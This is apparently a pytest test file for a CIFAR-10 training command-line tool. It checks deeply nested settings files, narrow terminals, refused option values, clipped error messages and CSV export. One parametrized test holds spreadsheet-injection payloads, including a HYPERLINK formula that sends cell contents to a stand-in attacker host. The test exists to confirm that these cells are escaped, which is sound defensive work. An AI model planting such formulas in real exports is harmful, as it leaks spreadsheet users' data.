"""Edges a user or an attacker reaches from the command line (issue 16): settings files nested
thousands deep, spreadsheet formulas in CSV cells, narrow terminals, values that must be refused
rather than ignored, and errors that quote megabytes. Real processes, exit codes and one line."""

from __future__ import annotations

import csv
import io
import json
import os
import re
import shutil
from pathlib import Path

import pytest

from procs import cli_process, env_for, one_error


@pytest.fixture(scope="module")
def two_runs(tmp_path_factory, tiny_archive) -> tuple[Path, list[str]]:
    """A cache holding the tiny dataset and two short runs (λ = 0 and 0.1): (cache folder, run IDs)."""
    from cifarcli import stages
    from cifarcli.config import TrainConfig

    ws = stages.Workspace(tmp_path_factory.mktemp("trained") / "cache")
    stages.fetch(ws, str(tiny_archive))
    keys = [stages.train(ws, TrainConfig(lam=lam, eta=0.01, n_epochs=2, n_batch=50)).key for lam in (0.0, 0.1)]
    return ws.cache_dir, keys


def in_workspace(tmp_path: Path, two_runs) -> list[str]:
    shutil.copytree(two_runs[0], tmp_path / "cache")
    return two_runs[1]


def narrow(tmp_path: Path, columns: int) -> dict:
    return {**env_for(tmp_path), "COLUMNS": str(columns)}


def settings_file(tmp_path: Path, text: str) -> Path:
    path = tmp_path / "study.toml"
    path.write_text(text)
    return path


# -- settings files the parser cannot take ------------------------------------------------------

DEEP = 5000


@pytest.mark.parametrize(
    "text",
    [
        pytest.param("x = " + "[" * DEEP + "]" * DEEP, id="arrays-5000-deep"),
        pytest.param(
            "[[run]]\nlam = 0\neta = 0.1\nx = " + "{a = " * DEEP + "1" + "}" * DEEP, id="inline-tables-5000-deep"
        ),
        pytest.param("[[run]]\nlam = 0\neta = 0.1\nseed = " + "7" * 5000, id="seed-of-5000-digits"),
    ],
)
def test_a_settings_file_the_parser_cannot_take_is_one_line_naming_it(tmp_path, text):
    path = settings_file(tmp_path, text)
    done = cli_process(tmp_path, "report", "--config", path, "--cache-dir", "cache")
    line = one_error(done, 2, str(path))
    assert len(line) < 300


def test_a_value_nested_deep_but_readable_is_refused_in_a_short_line(tmp_path):
    path = settings_file(tmp_path, "[[run]]\neta = 0.1\nlam = " + "[" * 300 + "]" * 300)
    line = one_error(
        cli_process(tmp_path, "report", "--config", path, "--cache-dir", "cache"), 2, str(path), "run 1", "lam"
    )
    assert "[[[[...]]]]" in line and len(line) < 300


# -- runs --csv and spreadsheets ----------------------------------------------------------------------


@pytest.mark.parametrize(
    "formula", ['=HYPERLINK("http://evil.example/?"&A1,"open")', "+1+1", "-2+3", "@SUM(A1:A9)", "\t=1"]
)
def test_csv_cells_a_spreadsheet_would_run_start_with_a_quote(tmp_path, two_runs, formula):
    from cifarcli import runs, stages, views

    in_workspace(tmp_path, two_runs)
    result = runs.list_runs(stages.Workspace(tmp_path / "cache"))
    first, second = result["runs"]
    first["created"], second["settings"]["split"] = formula, formula
    first["val_acc"] = -0.5  # a number, not text: it stays a number
    rows = list(csv.DictReader(io.StringIO(views.runs_csv(result), newline="")))
    assert rows[0]["created"] == "'" + formula and rows[1]["split"] == "'" + formula
    assert rows[0]["val_acc"] == "-0.5"
    assert [r["run_id"] for r in rows] == [first["run_id"], second["run_id"]]
    assert rows[1]["created"] == second["created"] and rows[0]["split"] == "seed"


def test_runs_csv_of_a_real_cache_is_unchanged_by_the_rule(tmp_path, two_runs):
    keys = in_workspace(tmp_path, two_runs)
    done = cli_process(tmp_path, "runs", "--csv", "--cache-dir", "cache")
    assert done.returncode == 0, done.stderr
    rows = list(csv.DictReader(io.StringIO(done.stdout)))
    assert sorted(r["run_id"] for r in rows) == sorted(keys)
    assert all(re.fullmatch(r"\d{4}-\d\d-\d\dT[\d:]+[+-]\d\d:\d\d", r["created"]) for r in rows)


# -- narrow terminals -------------------------------------------------------------------------------------


@pytest.mark.parametrize("columns", [0, 1, 5])
def test_runs_at_any_terminal_width_lists_the_runs(tmp_path, two_runs, columns):
    keys = in_workspace(tmp_path, two_runs)
    done = cli_process(tmp_path, "runs", "--cache-dir", "cache", env=narrow(tmp_path, columns))
    assert done.returncode == 0, done.stderr
    assert all(key[:8] in done.stdout for key in keys)
    as_json = cli_process(tmp_path, "runs", "--json", "--cache-dir", "cache", env=narrow(tmp_path, columns))
    assert as_json.returncode == 0, as_json.stderr
    assert sorted(r["run_id"] for r in json.loads(as_json.stdout)["runs"]) == sorted(keys)


@pytest.mark.parametrize("columns", [0, 1, 20])
def test_an_error_is_printed_at_any_terminal_width(tmp_path, two_runs, columns):
    in_workspace(tmp_path, two_runs)
    done = cli_process(tmp_path, "evaluate", "--run", "zzzz", "--cache-dir", "cache", env=narrow(tmp_path, columns))
    one_error(done, 2, "zzzz")


@pytest.mark.parametrize("columns", [1, 10, 20])
def test_the_train_result_shows_its_numbers_at_any_terminal_width(tmp_path, two_runs, columns):
    in_workspace(tmp_path, two_runs)
    args = ("train", "--lam", "0", "--eta", "0.01", "--n-epochs", "2", "--n-batch", "50", "--cache-dir", "cache")
    wide = json.loads(cli_process(tmp_path, *args, "--json").stdout)
    done = cli_process(tmp_path, *args, env=narrow(tmp_path, columns))
    assert done.returncode == 0, done.stderr
    for split in ("train", "val"):
        assert f"{wide['final'][split + '_acc']:.4f}" in done.stdout, done.stdout
        assert f"{wide['final'][split + '_cost']:.4f}" in done.stdout, done.stdout


# -- values refused, not ignored (item 10) --------------------------------------------------------------


@pytest.mark.parametrize(
    "args, flag",
    [
        (("--split", "bogus"), "--split"),
        (("--where", "split=bogus"), "--where"),
        (("--where", "dtype=float16"), "--where"),
        (("--where", "loss=hinge"), "--where"),
    ],
)
def test_runs_filtered_on_a_value_no_run_can_have_is_exit_2(tmp_path, two_runs, args, flag):
    in_workspace(tmp_path, two_runs)
    line = one_error(cli_process(tmp_path, "runs", *args, "--cache-dir", "cache"), 2, flag, "unknown")
    assert "one of:" in line


def test_runs_filtered_on_a_valid_split_still_lists_them(tmp_path, two_runs):
    keys = in_workspace(tmp_path, two_runs)
    done = cli_process(tmp_path, "runs", "--split", "seed", "--json", "--cache-dir", "cache")
    assert sorted(r["run_id"] for r in json.loads(done.stdout)["runs"]) == sorted(keys)


def test_where_run_id_takes_a_prefix_as_run_does(tmp_path, two_runs):
    first, second = in_workspace(tmp_path, two_runs)
    for op, want in (("=", [first]), ("!=", [second])):
        done = cli_process(
            tmp_path, "runs", "--where", f"run_id{op}{first[:6].upper()}", "--json", "--cache-dir", "cache"
        )
        assert done.returncode == 0, done.stderr
        assert [r["run_id"] for r in json.loads(done.stdout)["runs"]] == want


def test_csv_with_diff_is_refused(tmp_path, two_runs):
    first, second = in_workspace(tmp_path, two_runs)
    done = cli_process(tmp_path, "runs", "--diff", first, second, "--csv", "--cache-dir", "cache")
    one_error(done, 2, "--csv", "--diff")
    assert done.stdout == ""


def test_ensemble_of_given_runs_refuses_training_options_it_would_ignore(tmp_path, two_runs):
    first, second = in_workspace(tmp_path, two_runs)
    done = cli_process(tmp_path, "ensemble", "--run", first, "--run", second, "--lam", "5", "--cache-dir", "cache")
    one_error(done, 2, "--lam", "--run")
    assert not (tmp_path / "cache" / "ensemble").exists()
    # Without the option, the same runs make an ensemble.
    assert cli_process(tmp_path, "ensemble", "--run", first, "--run", second, "--cache-dir", "cache").returncode == 0


def test_a_seed_in_the_ensemble_table_is_refused_not_dropped(tmp_path, two_runs):
    in_workspace(tmp_path, two_runs)
    path = settings_file(tmp_path, "[ensemble]\nseeds = [1, 2]\nseed = 5\nlam = 0\neta = 0.01\n")
    one_error(cli_process(tmp_path, "report", "--config", path, "--cache-dir", "cache"), 2, str(path), "seed")
    assert sorted(p.name for p in (tmp_path / "cache" / "train").iterdir() if not p.name.startswith(".")) == sorted(
        two_runs[1]
    )


def test_seeds_are_capped_before_any_training(tmp_path, two_runs):
    from cifarcli.config import MAX_SEEDS

    in_workspace(tmp_path, two_runs)
    seeds = ",".join(str(s) for s in range(MAX_SEEDS + 1))
    done = cli_process(tmp_path, "ensemble", "--seeds", seeds, "--n-epochs", "1", "--cache-dir", "cache")
    one_error(done, 2, "--seeds", f"at most {MAX_SEEDS}", str(MAX_SEEDS + 1))
    path = settings_file(tmp_path, f"[ensemble]\nseeds = [{seeds}]\nlam = 0\neta = 0.01\n")
    one_error(cli_process(tmp_path, "report", "--config", path, "--cache-dir", "cache"), 2, str(path), "seeds")
    assert len(list((tmp_path / "cache" / "train").glob("[0-9a-f]*"))) == 2  # nothing trained
    # At the cap, the seeds are accepted (the first check they meet is the cap's).
    from cifarcli.config import check_seeds

    assert check_seeds(list(range(MAX_SEEDS))) == list(range(MAX_SEEDS))


@pytest.mark.parametrize("where", ["settings", "option"])
def test_an_error_quotes_a_huge_value_short(tmp_path, where):
    if where == "settings":
        huge = "x" * 500_000  # under the settings file's 1 MiB cap: the value itself is what is clipped
        path = settings_file(tmp_path, f'[[run]]\nlam = 0\neta = 0.1\nsplit = "{huge}"\n')
        done = cli_process(tmp_path, "report", "--config", path, "--cache-dir", "cache")
        line = one_error(done, 2, str(path), "split", "xxx...xxx")
    else:
        done = cli_process(tmp_path, "train", "--split", "y" * 100_000, "--cache-dir", "cache")
        line = one_error(done, 2, "--split", "unknown split")
    assert len(line) < 600 and len(done.stderr) < 1000


def test_every_error_line_is_clipped_whatever_raised_it():
    from cifarcli.errors import MAX_ERROR_CHARS, CifarError, OptionError

    for error in (CifarError("a" * 10**6 + "END", hint="h" * 10**6), OptionError("split", "b" * 10**6)):
        assert len(error.message) <= MAX_ERROR_CHARS + 40 and "characters left out" in error.message
        assert error.message.startswith(("aaaa", "bbbb"))
    assert CifarError("a" * 10**6 + "END").message.endswith("END")  # the end stays: it often names the file
    assert len(CifarError("x", hint="h" * 10**6).hint) <= MAX_ERROR_CHARS + 40
    assert CifarError("short").message == "short"


@pytest.mark.parametrize("command", [("fetch",), ("runs",), ("status",), ("cache", "ls"), ("train", "--n-epochs", "1")])
def test_a_cache_that_is_a_loop_of_symbolic_links_is_one_line(tmp_path, command):
    (tmp_path / "cache").symlink_to("cache")
    done = cli_process(tmp_path, *command)
    one_error(done, 2, "cache", "loop of symbolic links")
    assert done.stderr.count("\n") == 1  # no notice before it
    assert (tmp_path / "cache").is_symlink() and os.readlink(tmp_path / "cache") == "cache"


def test_a_gradcheck_where_every_parameter_is_a_kink_claims_no_error(tmp_path, two_runs):
    in_workspace(tmp_path, two_runs)
    args = ("gradcheck", "--loss", "svm", "--h", "1", "--n-samples", "100", "--n-dims", "20", "--cache-dir", "cache")
    done = cli_process(tmp_path, *args)
    assert done.returncode == 0, done.stderr
    assert "FAIL" not in done.stdout and "1.00e+00" not in done.stdout and "1.0e+00" not in done.stdout
    assert "NOT CHECKED: every parameter is within h=1 of a kink" in done.stdout
    document = json.loads(cli_process(tmp_path, *args, "--json", "--tol", "1e-6").stdout)
    assert document["n_checked"] == 0 and document["passed"] is False and document["exit_code"] == 1
    assert all(e[p]["n_excluded"] == e[p]["n"] for e in document["results"] for p in ("W", "b"))
    one_error(cli_process(tmp_path, *args, "--tol", "1e-6"), 1, "no parameter could be checked")


def test_gradcheck_with_some_kinks_still_measures_the_others(tmp_path, two_runs):
    in_workspace(tmp_path, two_runs)
    done = cli_process(
        tmp_path,
        "gradcheck",
        "--loss",
        "svm",
        "--n-samples",
        "20",
        "--n-dims",
        "20",
        "--json",
        "--tol",
        "1e-4",
        "--cache-dir",
        "cache",
    )
    document = json.loads(done.stdout)
    assert done.returncode == 0 and document["passed"] is True and document["n_checked"] > 0
    assert document["verdict"].startswith("PASS")


def unlearnable_archive(path: Path) -> Path:
    """Every image a brightness of one template (rank one after normalising) under a random label:
    no setting fits it, and a huge step makes the training cost jump about instead of exploding to NaN."""
    import numpy as np

    import tinycifar

    rng = np.random.default_rng(1)
    template = rng.integers(50, 250, size=3072)

    def batch(n):
        return (
            np.round(rng.uniform(0.2, 1.0, size=(n, 1)) * template).astype(np.uint8),
            rng.permutation(np.arange(n) % 10).astype(np.uint8),
        )

    members = {f"{name}.bin": tinycifar._binary_bytes(*batch(200)) for name in [*tinycifar.TRAIN_FILES, "test_batch"]}
    members["batches.meta.txt"] = tinycifar.binary_members()["batches.meta.txt"]
    return tinycifar.write_archive(path, members, "cifar-10-batches-bin")


def test_a_training_whose_cost_explodes_warns_that_it_is_unstable_by_the_reports_rule(tmp_path):
    from cifarcli.report import instability

    archive = unlearnable_archive(tmp_path / "flat.tar.gz")
    assert cli_process(tmp_path, "fetch", "--source", archive, "-q").returncode == 0
    args = ("train", "--lam", "0", "--n-epochs", "10", "--n-batch", "20")
    wild = cli_process(tmp_path, *args, "--eta", "1000")
    assert wild.returncode == 0, wild.stderr
    [warning] = [line for line in wild.stderr.splitlines() if line.startswith("warning:")]
    assert "unstable by the report's rule" in warning and "training cost went up" in warning
    document = json.loads(cli_process(tmp_path, *args, "--eta", "1000", "--json").stdout)
    assert document["diverged_at"] is None and max(document["history"]["train_cost"]) > 1000
    assert document["unstable"] == instability(document).reason  # the report's own rule, its own words
    calm = cli_process(tmp_path, *args, "--eta", "0.001")
    assert calm.returncode == 0 and "warning" not in calm.stderr
    assert json.loads(cli_process(tmp_path, *args, "--eta", "0.001", "--json").stdout)["unstable"] is None
